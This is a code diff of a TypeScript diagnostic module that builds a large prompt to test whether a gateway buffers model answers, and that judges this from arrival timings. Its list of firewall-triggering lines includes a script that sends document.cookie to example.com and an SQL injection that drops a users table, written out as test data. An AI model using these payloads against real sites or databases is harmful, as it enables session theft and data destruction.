@@ -1,6 +1,6 @@
-/** What the doctor asks, and how it reads the pace of an answer. */
+/** The large prompt of `doctor`, and how to tell from the timing of an answer whether it was buffered. */
 
-/** Web application firewalls look for such lines, and a coding assistant sends them all day. */
+/** Lines that web application firewalls block, and that a coding assistant sends all day. */
 const suspicious = [
   "<script>document.location = 'https://example.com/?c=' + document.cookie</script>",
   "SELECT * FROM users WHERE name = '' OR '1'='1'; DROP TABLE users; --",
@@ -15,22 +15,22 @@ const suspicious = [
 const ordinary = (index: number): string =>
   `export const step${index} = (input: ReadonlyArray<string>) => input.filter((line) => line.length > ${index}).map((line) => line.trim())`
 
-/** About 60 KiB: as large as a few source files, and with what is in source files. */
+/** About 60 KiB, the size of a few source files, with typical content of source files. */
 export const largePrompt = [
   "Here is a repository's text. Answer with the one word OK.",
   ...Array.from({ length: 480 }, (_, index) => index % 60 === 0 ? suspicious[index / 60]! : ordinary(index))
 ].join("\n")
 
-/** A model takes longer than this for an answer of some length; a gateway that has it already does not. */
-const together = 50
-const thinking = 500
+/** In milliseconds. A model takes longer to generate an answer; a gateway that has buffered it does not. */
+const burst = 50
+const generation = 500
 
-/** From the times, in milliseconds after the request, at which pieces of the text came. */
+/** Judges an answer by the times, in milliseconds after the request, at which pieces of its text arrived. */
 export const paced = (arrivals: ReadonlyArray<number>): { readonly detail: string; readonly isBuffered: boolean } => {
   const first = arrivals[0]
   const last = arrivals.at(-1)
   if (first === undefined || last === undefined) return { detail: "answered, without any text", isBuffered: false }
-  const isBuffered = arrivals.length > 1 && first > thinking && last - first < together
+  const isBuffered = arrivals.length > 1 && first > generation && last - first < burst
   const pieces = `${arrivals.length} ${arrivals.length === 1 ? "piece" : "pieces"}`
   return {
     detail: isBuffered
